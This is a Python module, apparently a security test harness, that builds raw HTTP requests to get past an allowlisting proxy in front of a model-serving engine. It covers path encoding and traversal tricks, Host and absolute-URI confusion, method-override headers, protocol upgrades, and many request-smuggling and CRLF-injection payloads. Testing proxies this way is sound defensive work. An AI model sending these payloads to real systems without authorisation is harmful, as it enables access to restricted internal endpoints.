"""Spellings that have opened doors elsewhere: what is sent, byte by byte, to get past an allowlist before an engine.

``KEY`` stands for a valid Authorization line; each shape is sent with it and without. ``ENGINE`` is an engine's port.
"""

from __future__ import annotations

AUTH = b"KEY"
DOOR = b"Host: door\r\n"
END = b"Connection: close\r\n\r\n"


def ask(target, method=b"GET", version=b"HTTP/1.1", headers=b"", host=DOOR, body=b""):
    length = b"Content-Length: %d\r\n" % len(body) if body else b""
    return method + b" " + target + b" " + version + b"\r\n" + host + AUTH + headers + length + END + body


def spellings():
    """Paths that mean a closed one to somebody."""
    for path in (
        b"/metrics/",
        b"/metrics?",
        b"/metrics?x=/v1/models",
        b"/metrics#/v1/models",
        b"/metrics;/v1/models",
        b"//metrics",
        b"///metrics",
        b"/./metrics",
        b"/.//metrics",
        b"/x/../metrics",
        b"/%2fmetrics",
        b"/%2e/metrics",
        b"/%6detrics",
        b"/%6Detrics",
        b"/%256detrics",
        b"/%25%36detrics",
        b"/METRICS",
        b"/Metrics",
        b"/metrics%20",
        b"/metrics%09",
        b"/metrics%00",
        b"/metrics%00/v1/models",
        b"/metrics.json",
        b"/metrics..",
        b"\\metrics",
        b"/\\metrics",
        b"/%5cmetrics",
        b"/%c0%afmetrics",
        b"/%ef%bd%8detrics",
        b"/v1/models/../../metrics",
        b"/v1/models/..;/..;/metrics",
        b"/v1/models;/../../metrics",
        b"/v1/models/%2e%2e/%2e%2e/metrics",
        b"/v1/models/..%2f..%2fmetrics",
        b"/v1/models/..%5c..%5cmetrics",
        b"/v1/models%2f..%2f..%2fmetrics",
        b"/v1/models%3f/../../metrics",
        b"/v1/models%23/../../metrics",
        b"/v1/models%00/../../metrics",
        b"/v1/models/../../../../metrics",
        b"/metrics/..%2fv1/models",
        b"/metrics/%2e%2e/v1/models",
        b"/metrics/../v1/models",
        b"/metrics/..%2f..%2fmetrics",
        b"/metrics%2f..%2fv1%2fmodels",
        b"/v1/models/",
        b"/v1//models",
        b"/V1/MODELS",
        b"/v1/%6dodels",
        b"/v1%2fmodels",
        b"/v1/./models",
        b"/v1/models?/../../metrics",
        b"/v1/models%0d%0aGET%20/metrics%20HTTP/1.1%0d%0aHost:%20x%0d%0a%0d%0a",
        b"/v1/models%0aX:%20y",
        b"/v1/models?x=%0d%0aGET%20/metrics%20HTTP/1.1",
        b"/v1/load_lora_adapter",
        b"/v1/chat/completions/render",
        b"/v1/completions/../load_lora_adapter",
        b"/tokenize",
        b"/invocations",
        b"/v1/completions/..%2f..%2finvocations",
        b"/.says/400",
        b"*",
        b"metrics",
        b"?/metrics",
        b"",
    ):
        yield b"path " + path, ask(path)
    for path in (b"/invocations", b"/v1/completions/..%2f..%2finvocations", b"/v1/Completions", b"//v1/completions"):
        yield b"POST " + path, ask(path, b"POST", body=b"{}")


def absolute():
    for target in (
        b"http://door/metrics",
        b"http://127.0.0.1:ENGINE/metrics",
        b"http://127.0.0.1:ENGINE/v1/models/../../metrics",
        b"https://127.0.0.1:ENGINE/metrics",
        b"http://127.0.0.1:ENGINE@door/metrics",
        b"http://door//metrics",
        b"http:/metrics",
        b"http:///metrics",
        b"ftp://127.0.0.1/metrics",
        b"unix:/run/x:/metrics",
        b"//127.0.0.1:ENGINE/metrics",
        b"http://door/v1/models@127.0.0.1:ENGINE/metrics",
        b"127.0.0.1:ENGINE/metrics",
    ):
        yield b"absolute " + target, ask(target)
    yield b"CONNECT", ask(b"127.0.0.1:ENGINE", b"CONNECT")


def methods():
    for method in (
        b"get",
        b"Get",
        b"HEAD",
        b"OPTIONS",
        b"TRACE",
        b"PUT",
        b"DELETE",
        b"PATCH",
        b"PROPFIND",
        b"MOVE",
        b"X" * 40,
    ):
        yield b"method " + method + b" /metrics", ask(b"/metrics", method)
        yield b"method " + method + b" /v1/completions", ask(b"/v1/completions", method)
    for name in (b"X-HTTP-Method-Override", b"X-HTTP-Method", b"X-Method-Override"):
        yield name, ask(b"/v1/chat/completions", b"POST", headers=name + b": DELETE\r\n", body=b"{}")
    for name in (
        b"X-Original-URL",
        b"X-Rewrite-URL",
        b"X-Forwarded-Path",
        b"X-Forwarded-Prefix",
        b"X-Accel-Redirect",
        b"X-Original-URI",
        b"X-Script-Name",
        b"X-Forwarded-Uri",
        b"Referer",
        b"Destination",
        b"Forwarded",
    ):
        yield name, ask(b"/v1/models", headers=name + b": /metrics\r\n")


def hosts():
    for host in (
        b"Host: 127.0.0.1:ENGINE\r\n",
        b"Host: door\r\nHost: 127.0.0.1:ENGINE\r\n",
        b"Host: door/metrics\r\n",
        b"Host:\r\n",
        b"",
        b"Host: 127.0.0.1:ENGINE@door\r\n",
        b"Host: door\r\nX-Forwarded-Host: 127.0.0.1:ENGINE\r\n",
        b"Host: door\x00.example\r\n",
        b"Host: a b\r\n",
        b"Host : door\r\n",
        b" Host: door\r\n",
        b"Host: ..\r\n",
    ):
        yield b"host " + host, ask(b"/metrics", host=host)
    yield b"HTTP/1.0 without a host", ask(b"/metrics", version=b"HTTP/1.0", host=b"")


def versions():
    yield b"HTTP/0.9", b"GET /metrics\r\n"
    yield b"HTTP/0.9 with spaces", b"GET  /metrics \r\n\r\n"
    yield b"HTTP/2 preface", b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + bytes((0, 0, 0, 4, 0, 0, 0, 0, 0))
    yield b"h2c upgrade", ask(b"/v1/models", headers=b"Upgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAAP__\r\n")
    yield (
        b"websocket",
        ask(b"/v1/realtime", headers=b"Upgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: AAAA\r\n"),
    )
    yield b"websocket to an open path", ask(b"/v1/models", headers=b"Upgrade: websocket\r\nSec-WebSocket-Key: AAAA\r\n")
    for version in (
        b"HTTP/1.2",
        b"HTTP/2.0",
        b"HTTP/3.0",
        b"HTTP/9.9",
        b"http/1.1",
        b"HTTP/1.1x",
        b"HTTP/",
        b"HTTPS/1.1",
    ):
        yield b"version " + version, ask(b"/metrics", version=version)
    yield b"bare line feeds", b"GET /metrics HTTP/1.1\nHost: door\n" + AUTH + b"\n"
    yield b"blank lines first", b"\r\n\r\n" + ask(b"/metrics")
    yield b"tab for a space", b"GET\t/metrics\tHTTP/1.1\r\n" + DOOR + AUTH + END
    yield b"NUL in the line", ask(b"/v1/models\x00/metrics")
    yield b"CR in the line", ask(b"/v1/models\r/metrics")
    yield b"8-bit path", ask(b"/\xedetrics")


HIDDEN = b"GET /metrics HTTP/1.1\r\nHost: door\r\n" + AUTH + b"\r\n"


def smuggling():
    """A second request hides where one reader sees the body of the first."""

    def post(headers, body):
        return b"POST /v1/completions HTTP/1.1\r\n" + DOOR + AUTH + headers + b"\r\n" + body

    chunked = b"0\r\n\r\n" + HIDDEN
    size = b"Content-Length: %d\r\n" % len(chunked)
    for name, line in (
        (b"CL.TE", b"Transfer-Encoding: chunked\r\n"),
        (b"space before the colon", b"Transfer-Encoding : chunked\r\n"),
        (b"tab", b"Transfer-Encoding:\tchunked\r\n"),
        (b"vertical tab", b"Transfer-Encoding: \x0bchunked\r\n"),
        (b"xchunked", b"Transfer-Encoding: xchunked\r\n"),
        (b"capitals", b"Transfer-Encoding: CHUNKED\r\n"),
        (b"identity", b"Transfer-Encoding: identity\r\n"),
        (b"two codings", b"Transfer-Encoding: chunked, identity\r\n"),
        (b"two headers", b"Transfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n"),
        (b"obs-fold", b"X: y\r\n Transfer-Encoding: chunked\r\n"),
        (b"folded value", b"Transfer-Encoding:\r\n chunked\r\n"),
        (b"quotes", b'Transfer-Encoding: "chunked"\r\n'),
        (b"line feed in a header", b"X: y\nTransfer-Encoding: chunked\r\n"),
        (b"carriage return in a header", b"X: y\rTransfer-Encoding: chunked\r\n"),
        (b"NUL in a header", b"X: y\x00Transfer-Encoding: chunked\r\n"),
        (b"underscore", b"Transfer_Encoding: chunked\r\n"),
    ):
        yield b"TE " + name + b", with length", post(size + line, chunked)
        yield b"TE " + name + b", length after", post(line + size, chunked)
        yield b"TE " + name + b", no length", post(line, chunked)
    for name, lines in (
        (b"two", b"Content-Length: 2\r\nContent-Length: %d\r\n" % (2 + len(HIDDEN))),
        (b"two alike", b"Content-Length: 2\r\nContent-Length: 2\r\n"),
        (b"list", b"Content-Length: 2, %d\r\n" % (2 + len(HIDDEN))),
        (b"plus", b"Content-Length: +2\r\n"),
        (b"minus", b"Content-Length: -2\r\n"),
        (b"hexadecimal", b"Content-Length: 0x2\r\n"),
        (b"empty", b"Content-Length:\r\n"),
        (b"fold", b"Content-Length: 2\r\n 0\r\n"),
        (b"huge", b"Content-Length: 99999999999999999999999\r\n"),
        (b"fraction", b"Content-Length: 2.0\r\n"),
        (b"zero", b"Content-Length: 0\r\n"),
        (b"none", b""),
        (b"right, and pipelined", b"Content-Length: 2\r\n"),
    ):
        yield b"CL " + name, post(lines, b"{}" + HIDDEN)
    for name, body in (
        (b"overflow", b"ffffffffffffffff1\r\n" + HIDDEN),
        (b"negative", b"-1\r\n" + HIDDEN),
        (b"extension", b"2;x=\r\n{}\r\n0\r\n\r\n" + HIDDEN),
        (b"extension with a line feed", b"2;x\n{}\r\n0\r\n\r\n" + HIDDEN),
        (b"trailer", b"2\r\n{}\r\n0\r\nContent-Length: 5\r\n\r\n" + HIDDEN),
        (b"bare line feeds", b"2\n{}\n0\n\n" + HIDDEN),
        (b"prefix", b"0x2\r\n{}\r\n0\r\n\r\n" + HIDDEN),
        (b"no end", b"2\r\n{}" + HIDDEN),
    ):
        yield b"chunk " + name, post(b"Transfer-Encoding: chunked\r\n", body)
    get = b"GET /v1/models HTTP/1.1\r\n" + DOOR + AUTH
    yield b"GET with a body", get + b"Content-Length: %d\r\n\r\n" % len(HIDDEN) + HIDDEN
    yield b"GET, chunked", get + b"Transfer-Encoding: chunked\r\n\r\n" + chunked
    yield b"pipelined", get + b"\r\n" + HIDDEN
    for name in (b"X-Request-Id", b"Accept", b"User-Agent", b"Content-Type", b"Traceparent"):
        yield b"handed on " + name + b", CR", get + name + b": a\rX: b\r\n" + END
        yield b"handed on " + name + b", NUL", get + name + b": a\x00b\r\n" + END
        yield b"handed on " + name + b", LF", get + name + b": a\nGET /metrics HTTP/1.1\r\n" + END
    yield b"Expect", post(b"Expect: 100-continue\r\n" + size, chunked)
    yield b"Connection names headers", get + b"Connection: close, Authorization, Host\r\n\r\n"
    yield b"TRACE with hops", ask(b"/v1/models", b"TRACE", headers=b"Max-Forwards: 0\r\n")


def shapes():
    for source in (spellings, absolute, methods, hosts, versions, smuggling):
        for name, raw in source():
            yield source.__name__ + ": " + name.decode("latin-1"), raw
